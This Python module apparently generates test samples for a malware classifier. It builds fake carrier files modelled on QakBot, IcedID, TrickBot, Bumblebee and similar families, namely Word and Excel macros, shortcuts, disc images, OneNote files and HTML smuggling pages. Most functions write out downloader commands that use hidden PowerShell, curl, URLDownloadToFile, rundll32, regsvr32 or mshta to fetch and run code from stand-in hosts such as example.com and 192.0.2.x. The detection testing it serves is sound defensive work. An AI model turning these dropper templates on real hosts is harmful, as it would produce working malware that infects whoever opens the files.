"""Carriers of other malware in the same clothes: they are malicious, and none of them is Emotet's.

Sources: MITRE ATT&CK pages of QakBot, IcedID, Dridex, TrickBot, Bumblebee, Hancitor (what each sent, in which years).
"""

from __future__ import annotations

import base64
from random import Random

from support import dropper_draws as droppers
from support.archives import disc
from support.carriers.mails import replying
from support.carriers.padded import in_zip
from support.carriers.sample import Sample, zipped
from support.carriers.sheets import Cells, book, file, listed
from support.carriers.shortcuts import CMD, POWERSHELL
from support.carriers.word import binary, docm, properties
from support.carriers.word_macros import Macro
from support.document_decoys import addresses, encoded, name
from support.draws import letters
from support.lnk_files import lnk
from support.office.biff_writer import workbook_stream
from support.office.ole_writer import compound_file
from support.office.vba_writer import Source
from support.office.word_writer import word_document
from support.office.xlm_writer import NamePlan
from support.onenote_files import one
from support.pe_files import pe
from support.script_files import smuggler

_PROPERTIES = {"author": "Windows User", "revision": "7", "edited": 6 * 10**9, "created": 132 * 10**15, "saved": 133 * 10**15}


def named_file(draw: Random) -> str:
    """An address that ends in a file's name, as other families' do."""
    end = draw.choice(("png", "gif", "dat", "dll", "exe", "php", "html"))
    return f"http://{letters(draw, 4, 8)}.example.com/{letters(draw, 3, 8)}/{letters(draw, 3, 8)}.{end}"


def one_address(draw: Random) -> Sample:
    """A document with one address, PowerShell in base64: any of dozens."""
    path = f"c:\\users\\public\\{letters(draw, 4, 8)}.exe"
    text = f"$w=new-object net.webclient;$w.downloadfile('{addresses(draw, 1)[0]}','{path}');start-process '{path}'"
    code = f'Sub AutoOpen()\nShell "powershell -w hidden -enc {encoded(text)}", 0\nEnd Sub\n'
    return Sample("invoice.doc", word_document([Source("ThisDocument", code, "document")], properties=_PROPERTIES))


def trickbot(draw: Random) -> Sample:
    """A document that writes a script and starts it by wscript when it is closed."""
    lines = "".join(f'f.WriteLine "{letters(draw, 20, 50)}"\n' for _ in range(20))
    code = (
        'Sub AutoClose()\nSet s = CreateObject("Scripting.FileSystemObject")\n'
        f'Set f = s.CreateTextFile(Environ("APPDATA") & "\\{letters(draw, 4, 8)}.js")\n{lines}f.Close\n'
        f'CreateObject("WScript.Shell").Run "wscript " & Environ("APPDATA") & "\\{letters(draw, 4, 8)}.js", 0\nEnd Sub\n'
    )
    return Sample("order.docm", docm(draw, Macro((Source("ThisDocument", code, "document"),))))


def icedid(draw: Random) -> Sample:
    """A document with the address in a form, ``autoopen`` in small letters, URLDownloadToFile, rundll32."""
    form, module = name(draw), name(draw)
    code = (
        'Private Declare PtrSafe Function Fetch Lib "urlmon" Alias "URLDownloadToFileA" (ByVal a As LongPtr, ByVal b As String, '
        "ByVal c As String, ByVal d As Long, ByVal e As LongPtr) As Long\n"
        f'Sub autoopen()\nFetch 0, {form}.T.Text, "C:\\ProgramData\\{letters(draw, 4, 6)}.pdf", 0, 0\n'
        f'Shell "rundll32 C:\\ProgramData\\{letters(draw, 4, 6)}.pdf,ShowDialogA -r", 0\nEnd Sub\n'
    )
    from support.office.forms_writer import FormControl

    modules = (Source("ThisDocument", "", "document"), Source(module, code), Source(form, form="form"))
    macro = Macro(modules, forms={form: (FormControl("T", named_file(draw)),)})
    return Sample("request.doc", binary(draw, macro, _PROPERTIES), kinds=())


def mirrors(draw: Random) -> Sample:
    """Several addresses of files, tried in turn."""
    urls = "@".join(named_file(draw) for _ in range(draw.randint(3, 6)))
    path = f"$env:temp\\{letters(draw, 4, 8)}.exe"
    fetch = f'(new-object net.webclient).downloadfile($u,"{path}")'
    text = f"foreach($u in '{urls}'.split('@')){{try{{{fetch};start-process \"{path}\";break}}catch{{}}}}"
    code = f'Sub Document_Open()\nShell "powershell -enc {encoded(text)}", 0\nEnd Sub\n'
    return Sample("file.doc", word_document([Source("ThisDocument", code, "document")], properties=_PROPERTIES))


def qakbot_sheet(draw: Random) -> Sample:
    """Three addresses of files into a folder of its own, then the loader with a capital name."""
    urls = [named_file(draw) for _ in range(3)]
    folder = f"C:\\{letters(draw, 5, 6).capitalize()}\\"
    loader = draw.choice(("regsvr32.exe -silent ", "rundll32.exe "))
    return file(
        draw,
        listed(draw, urls, letters(draw, 4, 6).capitalize(), "ocx", loader=loader, folder=folder),
        draw.choice(("xls", "xlsb")),
        None,
    )


def numbered_sheet(draw: Random) -> Sample:
    """Numbers of machines with a number of the day as the file, three in a row."""
    urls = [f"http://192.0.2.{draw.randint(1, 254)}/{draw.randint(44000, 44999)}.{draw.randint(1000, 9999)}.dat" for _ in range(3)]
    return file(draw, listed(draw, urls, letters(draw, 4, 6), "red", loader="regsvr32.exe -s "), draw.choice(("xls", "xlsm")), None)


def single_sheet(draw: Random) -> Sample:
    """One address, rundll32."""
    path = f"C:\\ProgramData\\{letters(draw, 3, 6)}.dll"
    macro: Cells = {
        "A1": f'=CALL("urlmon","URLDownloadToFileA","JJCCBB",0,"{named_file(draw)}","{path}",0,0)',
        "A2": f'=EXEC("rundll32.exe C:\\ProgramData\\{letters(draw, 3, 6)}.dll,DllRegisterServer")',
        "A3": "=HALT()",
    }
    return file(draw, book(draw, macro, "$A$1"), draw.choice(("xls", "xlsm", "xlsb")), None)


def mshta_sheet(draw: Random) -> Sample:
    """mshta of a page with a host's name, in the open."""
    macro: Cells = {"A1": f'=EXEC("mshta http://{letters(draw, 4, 8)}.example.com/{letters(draw, 3, 6)}.hta")', "A2": "=HALT()"}
    variable = letters(draw, 4, 6).upper()
    return file(draw, book(draw, macro, "$A$1", (NamePlan(variable, '"x"', hidden=True),)), draw.choice(("xls", "xlsm")), None)


def numbers_sheet(draw: Random) -> Sample:
    """Formulas that are made of numbers when the workbook is opened."""
    macro: Cells = {}
    for row in range(1, 20):
        text = "&".join(f"CHAR({draw.randint(33, 125)})" for _ in range(6))
        macro[f"A{row}"] = f"=FORMULA({text},B{row})"
    macro["A20"] = "=GOTO(B1)"
    return Sample("bill.xls", compound_file({"Workbook": workbook_stream(book(draw, macro, "$A$1"))}))


def bumblebee(draw: Random) -> Sample:
    """A disc with a shortcut to rundll32 and the library beside it."""
    library = f"{letters(draw, 4, 8)}.dll"
    link = lnk(CMD, f"/c start rundll32 {library},{letters(draw, 8, 10)}", icon="%windir%/System32/imageres.dll,3", show=7)
    return Sample("documents.iso", disc({"documents.lnk": link, library: pe(library=True)}, joliet=True))


def qakbot_link(draw: Random) -> Sample:
    """A shortcut that has curl fetch a library, by mail in a locked archive."""

    def link(luck: Random) -> Sample:
        path = f"%temp%\\{letters(luck, 4, 8)}.dll"
        text = f"/q /c echo x && curl.exe --output {path} {named_file(luck)} && regsvr32 {path}"
        return Sample("report.lnk", lnk(CMD, text, show=7))

    return replying(link)(draw)


def powershell_link(draw: Random) -> Sample:
    """A shortcut with a downloader of one address in base64."""
    text = base64.b64encode(f"iex (iwr {named_file(draw)} -useb)".encode("utf-16-le")).decode()
    return Sample("cv.pdf.lnk", lnk(POWERSHELL, f"-w hidden -enc {text}", icon="shell32.dll,1"))


def icedid_notebook(draw: Random) -> Sample:
    """A notebook with an HTML application or a batch file under the button."""
    path = f"%temp%\\{letters(draw, 4, 8)}.dll"
    batch = f"@echo off\r\npowershell iwr {named_file(draw)} -outfile {path}\r\nrundll32 {path},init\r\n"
    line = f"cmd /c curl {named_file(draw)} -o {path} & rundll32 {path},x"
    page = f'<script language="VBScript">CreateObject("WScript.Shell").Run "{line}",0</script>'
    inner = ("Open.cmd", batch.encode()) if draw.random() < 0.5 else ("Open.hta", page.encode())
    return Sample("unpaid.one", one([inner, ("i.png", b"\x89PNG\r\n\x1a\n" + bytes(900))], ["Double click to view document"]))


def padded_program(draw: Random) -> Sample:
    """A program of another family, blown up."""
    data = pe(library=False, overlay=letters(draw, 50, 90).encode())
    member = f"{letters(draw, 4, 8)}.exe"
    return Sample("setup.zip", in_zip(member, data, draw.randint(60, 70)), way=(member,))


def smuggled_disc(draw: Random) -> Sample:
    """A page that saves a zip with a disc in it."""
    disk = disc({"a.lnk": lnk(CMD, f"/c start rundll32 {letters(draw, 3, 6)}.dat,f", show=7)}, joliet=True)
    return Sample("REF.html", smuggler(zipped({"REF.iso": disk}), "REF.zip"))


def one_script(draw: Random) -> Sample:
    """A script of one address."""
    text = droppers.javascript(draw, [droppers.number(draw)], draw.choice(droppers.JAVASCRIPT))
    return Sample("scan.zip", zipped({"scan.js": text.encode()}))


def lent_builder(draw: Random) -> Sample:
    """Another's macro in a document never edited, the module's name kept: one mark is none."""
    text = encoded("iex (new-object net.webclient).downloadstring('http://192.0.2.7/a')")
    code = f'Sub AutoOpen()\nCreateObject("WScript.Shell").Run "powershell -e {text}", 0\nEnd Sub\n'
    return Sample(
        "x.doc", word_document([Source("ThisDocument", code, "document"), Source(letters(draw, 5, 8))], properties=properties(draw))
    )
